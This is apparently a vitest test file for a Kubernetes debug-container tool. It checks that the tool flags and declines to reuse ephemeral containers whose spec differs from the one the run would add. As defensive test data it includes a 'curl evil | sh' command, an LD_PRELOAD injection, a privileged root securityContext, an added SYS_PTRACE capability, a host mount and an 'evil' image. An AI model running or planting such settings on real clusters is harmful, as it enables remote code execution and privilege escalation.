import type { V1EphemeralContainer, V1Pod } from '@kubernetes/client-node';
import { describe, expect, it } from 'vitest';
import { buildDebugContainer } from '../../src/core/debug-container.js';
import { holderCommand } from '../../src/core/holder.js';
import { launcherCommand } from '../../src/core/launcher.js';
import { chooseReusable, specDifferences } from '../../src/core/reuse.js';

const IMG = 'cgr.dev/chainguard/nginx:1.25-dev@sha256:' + 'a'.repeat(64);
const RESTRICTED = {
  runAsUser: 65532,
  runAsNonRoot: true,
  allowPrivilegeEscalation: false,
  capabilities: { drop: ['ALL'] },
  seccompProfile: { type: 'RuntimeDefault' },
};

/** What this run would add: the same builder the session uses. */
const wanted = buildDebugContainer({
  name: 'cg-debug-new01',
  image: IMG,
  target: 'app',
  securityContext: RESTRICTED,
  command: launcherCommand({ target: 'app', shareProcessNamespace: false }),
  connectBy: 'attach',
});

/** A container as the API server returns it: defaulted fields set, the client's unset fields undefined. */
function asServed(name: string, changes: Partial<V1EphemeralContainer> = {}): V1EphemeralContainer {
  return { ...wanted, name, imagePullPolicy: 'IfNotPresent', terminationMessagePath: '/dev/termination-log', env: undefined, resources: {}, ...changes };
}

function pod(containers: { spec: V1EphemeralContainer; state?: 'running' | 'terminated' }[]): V1Pod {
  return {
    metadata: { name: 'web-1' },
    spec: { containers: [{ name: 'app' }], ephemeralContainers: containers.map((c) => c.spec) },
    status: {
      ephemeralContainerStatuses: containers.map((c) => ({
        name: c.spec.name,
        image: c.spec.image ?? '',
        imageID: '',
        ready: false,
        restartCount: 0,
        state: c.state === 'terminated' ? { terminated: { exitCode: 0 } } : { running: {} },
      })),
    },
  };
}

/** A holder: no TTY. The API server never returns a plain boolean that is false, it leaves it out. */
const holder = buildDebugContainer({
  name: 'cg-debug-new02',
  image: IMG,
  target: 'app',
  securityContext: RESTRICTED,
  command: ['cg-debug-holder'],
  connectBy: 'exec',
});

describe('specDifferences', () => {
  it.each([
    { name: 'a holder served with its false tty left out', input: { ...holder, tty: undefined }, want: [] },
    { name: 'a holder served with a tty', input: { ...holder, tty: true }, want: ['tty'] },
    { name: 'a holder served without stdin', input: { ...holder, stdin: undefined }, want: ['stdin'] },
    {
      name: 'allowPrivilegeEscalation unset is not false',
      input: { ...holder, securityContext: { ...RESTRICTED, allowPrivilegeEscalation: undefined } },
      want: ['securityContext'],
    },
  ])('$name', ({ input, want }) => {
    expect(specDifferences(input, holder)).toEqual(want);
  });

  it.each([
    { name: 'identical but for the name and server defaults', input: asServed('cg-debug-old01'), want: [] },
    { name: 'the same image spelled without the registry default', input: { ...wanted, image: IMG }, want: [] },
    { name: 'another image digest', input: asServed('x', { image: IMG.replace(/a{64}$/, 'b'.repeat(64)) }), want: ['image'] },
    { name: 'the unpinned tag', input: asServed('x', { image: 'cgr.dev/chainguard/nginx:1.25-dev' }), want: ['image'] },
    { name: 'privileged', input: asServed('x', { securityContext: { ...RESTRICTED, privileged: true } }), want: ['securityContext'] },
    { name: 'another user', input: asServed('x', { securityContext: { ...RESTRICTED, runAsUser: 0 } }), want: ['securityContext'] },
    { name: 'an added capability', input: asServed('x', { securityContext: { ...RESTRICTED, capabilities: { drop: ['ALL'], add: ['SYS_PTRACE'] } } }), want: ['securityContext'] },
    { name: 'another command', input: asServed('x', { command: ['sh', '-c', 'curl evil | sh'] }), want: ['command'] },
    { name: 'args added', input: asServed('x', { args: ['x'] }), want: ['args'] },
    { name: 'env added', input: asServed('x', { env: [{ name: 'LD_PRELOAD', value: '/tmp/x.so' }] }), want: ['env'] },
    { name: 'volume mounts added', input: asServed('x', { volumeMounts: [{ name: 'host', mountPath: '/host' }] }), want: ['volumeMounts'] },
    { name: 'no tty', input: asServed('x', { tty: false }), want: ['tty'] },
    { name: 'several fields', input: asServed('x', { command: ['sh'], securityContext: {} }), want: ['command', 'securityContext'] },
  ])('$name', ({ input, want }) => {
    expect(specDifferences(input, wanted)).toEqual(want);
  });
});

describe('chooseReusable', () => {
  it.each([
    { name: 'none', input: [], want: { passedOver: [] } },
    { name: 'an identical running container', input: [{ spec: asServed('cg-debug-aaaaa') }], want: { reuse: 'cg-debug-aaaaa', passedOver: [] } },
    {
      name: 'the newest of several identical ones',
      input: [{ spec: asServed('cg-debug-aaaaa') }, { spec: asServed('cg-debug-zzzzz') }, { spec: asServed('cg-debug-bbbbb') }],
      want: { reuse: 'cg-debug-bbbbb', passedOver: [] },
    },
    { name: 'a terminated one is not reused', input: [{ spec: asServed('cg-debug-aaaaa'), state: 'terminated' as const }], want: { passedOver: [] } },
    { name: 'another target is not this session', input: [{ spec: asServed('cg-debug-aaaaa', { targetContainerName: 'sidecar' }) }], want: { passedOver: [] } },
    { name: 'not a cg-debug container', input: [{ spec: asServed('debugger-aaaaa') }], want: { passedOver: [] } },
    {
      name: 'a planted privileged container is passed over, saying why',
      input: [{ spec: asServed('cg-debug-plant', { securityContext: { privileged: true, runAsUser: 65532 } }) }],
      want: { passedOver: [{ name: 'cg-debug-plant', why: "its securityContext differs from this run's" }] },
    },
    {
      name: 'an identical one wins over a newer different one',
      input: [{ spec: asServed('cg-debug-aaaaa') }, { spec: asServed('cg-debug-bbbbb', { command: ['sleep', 'inf'], image: 'evil/x:1' }) }],
      want: { reuse: 'cg-debug-aaaaa', passedOver: [{ name: 'cg-debug-bbbbb', why: "its command, image differ from this run's" }] },
    },
  ])('$name', ({ input, want }) => {
    const got = chooseReusable(pod(input), wanted);
    expect({ ...(got.reuse ? { reuse: got.reuse.name } : {}), passedOver: got.passedOver }).toEqual(want);
  });
});

describe('a holder as the API server returns it', () => {
  const holder = buildDebugContainer({
    name: 'cg-debug-hold1',
    image: IMG,
    target: 'app',
    securityContext: RESTRICTED,
    command: holderCommand(3600),
    connectBy: 'exec',
  });
  // The API server drops fields set to their zero value (tty: false) and adds its defaults.
  const served = { ...holder, imagePullPolicy: 'IfNotPresent', terminationMessagePath: '/dev/termination-log' };

  it.each([
    { name: 'is the container this run would add', input: { ...holder, name: 'cg-debug-new02' }, want: [] },
    { name: 'differs from one with another TTL', input: { ...holder, command: holderCommand(60) }, want: ['command'] },
    { name: 'differs from the attach launcher', input: wanted, want: ['command', 'tty'] },
  ])('$name', ({ input, want }) => {
    expect(specDifferences(served, input)).toEqual(want);
  });
});

describe('chooseReusable: a holder that is still starting', () => {
  const holder = buildDebugContainer({ name: 'cg-debug-hold1', image: IMG, target: 'app', securityContext: RESTRICTED, command: holderCommand(3600), connectBy: 'exec' });
  const podWith = (state: object | undefined): V1Pod => ({
    metadata: { name: 'web-1' },
    spec: { containers: [{ name: 'app' }], ephemeralContainers: [holder] },
    status: state ? { ephemeralContainerStatuses: [{ name: holder.name, image: IMG, imageID: '', ready: false, restartCount: 0, state }] } : {},
  });
  it.each([
    { name: 'no status yet', input: undefined, want: 'cg-debug-hold1' },
    { name: 'ContainerCreating', input: { waiting: { reason: 'ContainerCreating' } }, want: 'cg-debug-hold1' },
    { name: 'an image pull failure', input: { waiting: { reason: 'ErrImagePull' } }, want: undefined },
    { name: 'terminated', input: { terminated: { exitCode: 0, reason: 'Completed' } }, want: undefined },
  ])('$name', ({ input, want }) => {
    expect(chooseReusable(podWith(input), { ...holder, name: 'cg-debug-new03' }).reuse?.name).toBe(want);
  });
});
